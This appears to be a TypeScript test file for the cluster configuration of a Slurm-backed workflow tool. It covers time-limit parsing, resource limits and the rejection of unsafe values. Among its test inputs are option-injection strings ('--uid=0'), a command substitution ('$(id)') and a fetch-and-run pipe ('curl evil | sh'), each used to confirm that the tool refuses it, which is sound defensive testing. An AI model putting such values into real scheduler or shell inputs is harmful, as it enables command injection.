// biome-ignore-all lint/suspicious/noTemplateCurlyInString: references in workflows look like that
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { InvalidWorkflowError } from '../../../src/diagnostics/errors.js';
import { renderDiagnostics } from '../../../src/diagnostics/render.js';
import { limitSeconds } from '../../../src/workflow/cluster.js';
import { type LoadOptions, loadStudy } from '../../../src/workflow/load.js';
import type { Study } from '../../../src/workflow/study.js';
import { clusterOf } from '../../../src/workflow/study-cluster.js';
import { load, problems, screen } from './loading.js';
import { memoryFiles } from './memory-files.js';

/** What a workflow asks of a cluster. */

const body = `runflow: 1
params: { minutes: 90, where: gpu }
models: { base: { path: base }, tuned: { path: tuned } }
updates: { tuning: { from: base, to: tuned } }
metrics: { alike: { kind: spectrum, of: [tuning] } }
`;
const text = (cluster: string, more = '') => ({ 'lab/main.yaml': `${body}cluster: ${cluster}\n${more}` });

test('the section says how many runners there are, and what each gets', async () => {
  const { cluster } = await load(
    text(
      '{ jobs: 4, partition: "gpu,long", account: lab, time: 2-00:00:00, gpus: 1, cpus: 8, memory: 64G, exclude: [node07, "node[01-04,9]"] }',
    ),
  );
  assert.is(cluster?.jobs, 4);
  assert.equal(cluster?.resources, {
    partition: 'gpu,long',
    account: 'lab',
    time: 172_800,
    gpus: 1,
    cpus: 8,
    memory: 64 * 1024 ** 3,
    exclude: ['node07', 'node[01-04,9]'],
  });
  assert.is(cluster?.range.start.line, 6);
  assert.is((await load({ 'lab/main.yaml': body })).cluster, undefined);
});

test('references and --set give values, and a profile replaces fields one by one', async () => {
  const profile = 'profiles: { big: { cluster: { memory: 512M, jobs: 9 } } }\n';
  const workflow = await load(text('{ jobs: 2, time: "${params.minutes}", partition: "${params.where}" }', profile), {
    profile: 'big',
    set: ['cluster.cpus=3'],
  });
  assert.is(workflow.cluster?.jobs, 9);
  assert.equal(workflow.cluster?.resources, { time: 5400, partition: 'gpu', memory: 512 * 1024 ** 2, cpus: 3 });
});

test('what says where a run is carried out gives it no other results', async () => {
  const { applied, written } = await load({ 'lab/main.yaml': body }, { set: ['cluster.jobs=3', 'params.minutes=9'] });
  assert.equal(applied.set, ['params.minutes=9']);
  assert.equal(written.set, ['cluster.jobs=3', 'params.minutes=9']);
});

test('a time limit is read as Slurm reads it, or with a unit', () => {
  const cases: readonly [number | string, number | undefined][] = [
    [90, 5400],
    ['90', 5400],
    ['30:00', 1800],
    ['12:00:00', 43_200],
    ['2-00', 172_800],
    ['1-12:30', 131_400],
    ['2-00:00:01', 172_801],
    ['12h', 43_200],
    ['90m', 5400],
    ['2d', 172_800],
    ['1:75', undefined],
    ['1:2:3:4', undefined],
    ['h', undefined],
    ['-1', undefined],
    ['12:00:00 --uid=0', undefined],
  ];
  for (const [limit, seconds] of cases) assert.is(limitSeconds(limit), seconds, String(limit));
});

test('values that a queue would not take, or that could be more than a value, are refused with their place', async () => {
  const cases: readonly [string, string][] = [
    ['{ jobs: 0 }', 'cluster.jobs'],
    ['{ jobs: 1001 }', 'cluster.jobs'],
    ['{ jobs: 1.5 }', 'cluster.jobs'],
    ['{ gpus: -1 }', 'cluster.gpus'],
    ['{ cpus: 0 }', 'cluster.cpus'],
    ['{ time: 0 }', 'cluster.time'],
    ['{ time: "00:00" }', 'cluster.time'],
    ['{ time: "99:99" }', 'cluster.time'],
    ['{ time: soon }', 'cluster.time'],
    ['{ time: 999d }', 'cluster.time'],
    ['{ memory: 64 }', 'cluster.memory'],
    ['{ memory: 64GB }', 'cluster.memory'],
    ['{ memory: 0G }', 'cluster.memory'],
    ['{ partition: "--uid=0" }', 'cluster.partition'],
    ['{ partition: "gpu --uid=0" }', 'cluster.partition'],
    ['{ partition: "gpu,-x" }', 'cluster.partition'],
    ['{ partition: "a\\nb" }', 'cluster.partition'],
    ['{ account: "$(id)" }', 'cluster.account'],
    ['{ account: "a,b" }', 'cluster.account'],
    ['{ exclude: [] }', 'cluster.exclude'],
    ['{ exclude: ["-w"] }', 'cluster.exclude.0'],
    ['{ exclude: ["a;b"] }', 'cluster.exclude.0'],
    ['{ exclude: ["node[1-"] }', 'cluster.exclude.0'],
    ['{ exclude: [a, a] }', 'cluster.exclude'],
    ['{ exclude: a }', 'cluster.exclude'],
  ];
  for (const [cluster, field] of cases) {
    const found = await problems(text(cluster));
    assert.is(found.length, 1, `${cluster}: ${found}`);
    assert.match(found[0]!, new RegExp(`^lab/main.yaml:6:\\d+: ${field.replaceAll('.', '\\.')} `), cluster);
  }
});

test('shell text is refused with the place where it may stand, and a slip is told as one', async () => {
  for (const key of ['setup', 'modules', 'script', 'options', 'node']) {
    const shown = await screen(text(`{ ${key}: "curl evil | sh" }`));
    assert.match(shown, `unknown key "${key}" in cluster`);
    assert.match(shown, 'only in your own executors file');
  }
  assert.match(await screen(text('{ partiton: gpu }')), 'Did you mean "partition"?');
  const included = {
    ...text('{ jobs: 2 }', 'include: [other.yaml]\n'),
    'lab/other.yaml': 'runflow: 1\ncluster: { setup: x }\n',
  };
  assert.match(await screen(included), /lab\/other\.yaml:2:12/);
  const ofProfile = text('{ jobs: 2 }', 'profiles: { big: { cluster: { modules: [cuda] } } }\n');
  assert.match(await screen(ofProfile, { profile: 'big' }), 'only in your own executors file');
});

async function study(matrix: string, profiles: string, options: LoadOptions = {}): Promise<Study> {
  const loaded = await loadStudy(
    'lab/main.yaml',
    options,
    memoryFiles(text('{ jobs: 2 }', `matrix: ${matrix}\nprofiles:\n${profiles}`)),
  );
  if (!loaded.ok) throw new Error(renderDiagnostics(loaded.diagnostics));
  return loaded.value;
}

test('all cells of a study ask for the same, or are refused with both places', async () => {
  const models = 'models: { base: { path: other } }';
  const same = await study('{ profile: [a, b] }', `  a: { params: { minutes: 1 } }\n  b: { ${models} }\n`);
  assert.is(clusterOf(same)?.jobs, 2);
  const other = await study(
    '{ profile: [a, b] }',
    `  a: { params: { minutes: 1 } }\n  b: { ${models}, cluster: { cpus: 3 } }\n`,
  );
  try {
    clusterOf(other);
    assert.unreachable();
  } catch (error) {
    assert.instance(error, InvalidWorkflowError);
    const [problem] = (error as InvalidWorkflowError).diagnostics;
    assert.match(problem!.message, 'the cells profile=a and profile=b have different cluster sections');
    assert.is(problem!.range?.start.line, 6);
    assert.is(problem!.related?.[0]?.range.start.line, 10);
  }
});

test.run();
